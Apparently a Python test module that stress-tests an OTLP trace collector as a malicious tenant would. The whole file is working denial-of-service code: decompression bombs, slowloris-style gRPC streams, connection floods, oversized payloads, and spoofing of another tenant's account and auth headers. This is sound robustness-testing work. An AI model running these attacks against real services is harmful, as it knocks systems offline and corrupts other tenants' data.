"""What a tenant with a valid token does to a server if it means harm: functions that go on until they are told to stop.

Attacks that are accepted, and so leave something to store and to allocate, keep a rate, so that what comes after stays short.
"""

from __future__ import annotations

import gzip
import itertools
import os
import random
import socket
import threading
from collections.abc import Callable
from typing import Any, Final

import grpc

from hostile import OPTIONS, Attacker
from otlp import SECOND, TRACES, SpanSpec, trace_request
from raw_http2 import Http2, grpc_frame

__all__ = ["ATTACKS"]

MIB: Final = 1 << 20
GZIP: Final = ("grpc-encoding", "gzip")
_WEEK: Final = 7 * 86_400 * SECOND


def _field(number: int, body: bytes) -> bytes:
    """A length-delimited field of protobuf."""
    size, encoded = len(body), bytearray([number << 3 | 2])
    while size > 127:
        encoded.append(size & 127 | 128)
        size >>= 7
    encoded.append(size)
    return bytes(encoded) + body


def _spans(
    attacker: Attacker, count: int, *, names: int = 1, length_ns: int = SECOND, resource: dict[str, Any] | None = None
) -> bytes:
    end = attacker.base_ns + 1800 * SECOND
    specs = (SpanSpec(1 + n, 1 + n, end - length_ns, end, f"op-{n % names}") for n in range(count))
    return trace_request(resource or {"service.name": "evil", "host.name": "h1"}, specs)


def oversized_message(attacker: Attacker) -> None:
    attacker.exports(2, _field(15, bytes(65 * MIB)))


def _bomb(attacker: Attacker, mib: int) -> bytes:
    """A compressed frame of a request that is mostly one attribute, of zeros."""
    note = _field(9, _field(1, b"note") + _field(2, _field(1, bytes(mib * MIB))))
    span = SpanSpec(1, 1, attacker.base_ns, attacker.base_ns + SECOND).message().SerializeToString()
    return grpc_frame(gzip.compress(_field(1, _field(2, _field(2, span + note))), 9), compressed=True)


def bomb_of_100_mib(attacker: Attacker) -> None:
    bomb = _bomb(attacker, 100)
    attacker.on(4, lambda: attacker.raw(bomb, GZIP))


def bomb_of_1_gib(attacker: Attacker) -> None:
    bomb = _bomb(attacker, 1024)
    attacker.on(2, lambda: attacker.raw(bomb, GZIP))


def many_bombs_of_60_mib(attacker: Attacker) -> None:
    """Each is small enough to be taken. After two of them they go on with garbage, which costs the server all but the disk."""
    good = _bomb(attacker, 60)
    bad = grpc_frame(gzip.compress(b"\xff" * (60 * MIB), 9), compressed=True)
    turn = itertools.count()
    attacker.on(8, lambda: attacker.raw(good if next(turn) < 2 else bad, GZIP))


def hundred_thousand_attributes(attacker: Attacker) -> None:
    many = {f"key-{n}": n for n in range(100_000)}
    spec = SpanSpec(1, 1, attacker.base_ns, attacker.base_ns + SECOND, attributes=many)
    attacker.exports(2, trace_request({"service.name": "evil"}, [spec]), pause_s=0.1)


def million_empty_spans(attacker: Attacker) -> None:
    attacker.exports(2, _field(1, _field(2, _field(2, b"") * 1_000_000)))


def million_empty_resources(attacker: Attacker) -> None:
    attacker.exports(2, _field(1, b"") * 1_000_000)


def week_long_spans(attacker: Attacker) -> None:
    attacker.exports(2, _spans(attacker, 200, names=200, length_ns=_WEEK - 7200 * SECOND), pause_s=0.5)


def fifty_thousand_names(attacker: Attacker) -> None:
    attacker.exports(1, _spans(attacker, 50_000, names=50_000), pause_s=1.0)


def account_of_another(attacker: Attacker) -> None:
    claimed = {"service.name": "shop", "cloud.account.id": "acme", "host.name": "h1", "service.instance.id": "i-1"}
    attacker.exports(2, _spans(attacker, 500, resource=claimed), pause_s=0.05)


def bad_tokens(attacker: Attacker) -> None:
    turn = itertools.cycle(attacker.tokens.values())
    with grpc.insecure_channel(attacker.target, options=OPTIONS) as channel:
        payload = _spans(attacker, 10)
        attacker.on(2, lambda: attacker.call(channel, payload, (("authorization", f"Bearer {next(turn)}"),)))


def two_authorization_headers(attacker: Attacker) -> None:
    with grpc.insecure_channel(attacker.target, options=OPTIONS) as channel:
        payload = _spans(attacker, 10)
        attacker.on(2, lambda: attacker.call(channel, payload, attacker.bearer * 2))


def silent_calls(attacker: Attacker) -> None:
    """300 calls that send headers and no message, opened again as they are ended."""
    with grpc.insecure_channel(attacker.target, options=OPTIONS) as channel:
        open_call: Any = channel.stream_unary(TRACES)
        room = threading.Semaphore(300)

        def nothing() -> Any:
            attacker.stopping.wait()
            yield from ()

        def ended(call: Any) -> None:
            error = call.exception()
            attacker.note(error.code().name if error else "OK", (error.details() if error else "") or "")
            room.release()

        while not attacker.stopping.is_set():
            if room.acquire(timeout=0.2):
                open_call.future(nothing(), metadata=attacker.bearer, timeout=60).add_done_callback(ended)


def dripping_calls(attacker: Attacker) -> None:
    """300 calls that promise a message and send a byte of it now and then; new ones every two seconds, as they are ended."""

    def one() -> None:
        connections = [Http2(attacker.target) for _ in range(3)]
        try:
            streams = [(connection, connection.open(TRACES, attacker.bearer)) for connection in connections for _ in range(50)]
            for connection, stream in streams:
                connection.drip(stream, grpc_frame(bytes(MIB))[:5])
            attacker.note("dripping", "")
            for _ in range(10):
                attacker.stopping.wait(0.2)
                for connection, stream in streams:
                    connection.drip(stream, b"\0")
        except OSError as error:
            attacker.note("closed", str(error))
        finally:
            for connection in connections:
                connection.close()

    attacker.on(2, one)


def idle_connections(attacker: Attacker) -> None:
    """200 connections on which nothing happens, half of them with HTTP/2's first bytes, and some that come and go."""
    host, _, port = attacker.target.rpartition(":")
    held: list[Any] = [Http2(attacker.target) for _ in range(100)]
    held += [socket.create_connection((host, int(port)), timeout=60) for _ in range(100)]
    attacker.note("idle", "")
    while not attacker.stopping.is_set():
        Http2(attacker.target).close()
    for connection in held:
        connection.close()


def endless_retries(attacker: Attacker) -> None:
    """What is refused for good is sent again at once, for ever."""
    attacker.exports(4, b"\x0a\x7fthis is not OTLP")


def garbage_requests(attacker: Attacker) -> None:
    noise = random.Random(1)
    with grpc.insecure_channel(attacker.target, options=OPTIONS) as channel:
        attacker.on(2, lambda: attacker.call(channel, b"\xff" + noise.randbytes(noise.randrange(5000))))


def garbage_on_the_wire(attacker: Attacker) -> None:
    noise = random.Random(2)
    host, _, port = attacker.target.rpartition(":")
    starts = (b"", b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", b"\x16\x03\x01\x02\x00\x01", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")

    def work() -> None:
        try:
            with socket.create_connection((host, int(port)), timeout=5) as connection:
                connection.sendall(noise.choice(starts) + noise.randbytes(2000))
                while connection.recv(4096):
                    pass
            attacker.note("closed", "")
        except OSError as error:
            attacker.note("closed", str(error))

    attacker.on(2, work)


def compressed_garbage(attacker: Attacker) -> None:
    frame = grpc_frame(os.urandom(1000), compressed=True)
    attacker.on(2, lambda: attacker.raw(frame, GZIP))


ATTACKS: Final[dict[str, Callable[[Attacker], None]]] = {
    attack.__name__: attack
    for attack in (
        oversized_message,
        bomb_of_100_mib,
        bomb_of_1_gib,
        many_bombs_of_60_mib,
        hundred_thousand_attributes,
        million_empty_spans,
        million_empty_resources,
        week_long_spans,
        fifty_thousand_names,
        account_of_another,
        bad_tokens,
        two_authorization_headers,
        silent_calls,
        dripping_calls,
        idle_connections,
        endless_retries,
        garbage_requests,
        garbage_on_the_wire,
        compressed_garbage,
    )
}
